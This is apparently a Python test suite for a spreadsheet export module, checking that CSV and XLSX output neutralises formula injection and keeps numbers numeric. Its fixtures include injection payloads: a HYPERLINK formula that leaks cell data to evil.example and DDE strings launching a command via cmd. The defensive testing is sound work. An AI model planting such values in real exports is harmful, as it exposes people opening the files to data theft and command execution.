"""The one writer of spreadsheet cells (huzhu.core.sheets): no text a test can generate leaves a
formula in a workbook or a CSV file, text round-trips, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from huzhu.core.sheets import SheetColumn, csv_text, xlsx_bytes
from huzhu.members.models import Member, Organisation
from huzhu.members.roster_export import members_export

# Written out here, not imported: the test states the contract on its own.
DANGEROUS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"  # and ＝＋－＠, the full-width forms
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
XML_CHAR = re.compile("[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]*")

formula_like = st.builds(
    lambda lead, rest: lead + rest, st.sampled_from(list(DANGEROUS)), st.text(max_size=40)
)
texts = st.one_of(
    st.text(max_size=60),
    formula_like,
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?x="&A2,"x")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "#N/A",
            "-100.00",
            "  =1+1",
        ]
    ),
)
storable = texts.filter(lambda t: "\x00" not in t)  # no database keeps a NUL in text
amounts = st.decimals(min_value=Decimal("-99999999.99"), max_value=Decimal("99999999.99"), places=2)


def guarded(text: str) -> bool:
    return bool(text) and text[0] in DANGEROUS and not PLAIN_NUMBER.fullmatch(text)


def as_xlsx_keeps_it(text: str) -> str | None:
    """What an .xlsx cell holds of `text`: XML reads CR as LF, and what XML 1.0 cannot carry is
    U+FFFD; an empty string is an empty cell."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    text = "".join(ch if XML_CHAR.fullmatch(ch) else "\ufffd" for ch in text)
    return text or None


def reopened(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book.active.iter_rows()]


@settings(max_examples=200, deadline=None)
@given(st.lists(texts, min_size=1, max_size=8), st.lists(amounts, max_size=3))
def test_no_text_leaves_a_formula_in_a_workbook(cells, money):
    header = [f"c{i}" for i in range(len(cells) + len(money))]
    data = xlsx_bytes(header, [[*cells, *money], cells])
    rows = reopened(data)
    assert not [c.coordinate for row in rows for c in row if c.data_type in ("f", "e")]
    first, second = rows[1], rows[2]
    for cell, text in zip(first, cells, strict=False):
        assert cell.value == as_xlsx_keeps_it(text)
        if cell.value is not None:
            assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == (guarded(text) or text == "#N/A")
        if XML_CHAR.fullmatch(text) and "\r" not in text and text:
            assert cell.value == text  # what XML carries comes back as it was
    for cell, amount in zip(first[len(cells) :], money, strict=True):
        assert cell.data_type == "n" and Decimal(str(cell.value)) == amount
    assert [c.value for c in second[: len(cells)]] == [as_xlsx_keeps_it(t) for t in cells]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(texts, amounts, st.none()), min_size=1, max_size=8))
def test_csv_prefixes_every_formula_like_text_and_nothing_else(cells):
    text = csv_text([f"c{i}" for i in range(len(cells))], [cells])
    _header, row = list(csv.reader(io.StringIO(text, newline="")))
    for written, value in zip(row, cells, strict=True):
        if value is None:
            assert written == ""
        elif isinstance(value, Decimal):
            assert written == str(value) and Decimal(written) == value
        elif guarded(value):
            assert written == "'" + value
        else:
            assert written == value
    for written in row:
        # What a spreadsheet sees first in each cell: never a formula's start, unless a number.
        assert not written or written[0] not in DANGEROUS or PLAIN_NUMBER.fullmatch(written)


def test_amounts_stay_numbers_whatever_their_sign():
    rows = [[Decimal("-100.00"), "-100.00", Decimal("1234.50"), "0.00", 7]]
    text = csv_text(["a", "b", "c", "d", "e"], rows)
    assert text.splitlines()[1] == "-100.00,-100.00,1234.50,0.00,7"
    columns = [SheetColumn("a", number_format="#,##0.00"), "b", "c", "d", "e"]
    (a, b, c, d, e) = reopened(xlsx_bytes(columns, rows))[1]
    assert (a.data_type, a.value, a.number_format) == ("n", -100, "#,##0.00")
    assert (b.data_type, b.value, b.quotePrefix) == ("s", "-100.00", False)
    assert (c.data_type, d.data_type, d.value, e.data_type, e.value) == ("n", "s", "0.00", "n", 7)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(member_name=storable, unit_name=storable)
def test_no_stored_name_leaves_a_formula_in_the_roster(
    tree, make_member, tmp_path: Path, member_name, unit_name
):
    """Through the real export, whatever was stored, with or without today's name rules."""
    member = Member.objects.filter(unit=tree.u1).first() or make_member(tree.u1)
    Member.objects.filter(pk=member.pk).update(name=member_name)
    Organisation.objects.filter(pk=tree.u1.pk).update(name=unit_name)
    xlsx, csv_file = tmp_path / "r.xlsx", tmp_path / "r.csv"
    members_export(xlsx)
    members_export(csv_file)
    header, row = reopened(xlsx.read_bytes())
    assert not [c.coordinate for c in header + row if c.data_type in ("f", "e")]
    names = {h.value: c.value for h, c in zip(header, row, strict=True)}
    assert names["name"] == as_xlsx_keeps_it(member_name)
    assert names["unit_name"] == as_xlsx_keeps_it(unit_name)
    _header, line = list(
        csv.reader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"), newline=""))
    )
    for written, value in ((line[1], member_name), (line[3], unit_name)):
        assert written == ("'" + value if guarded(value) else value)
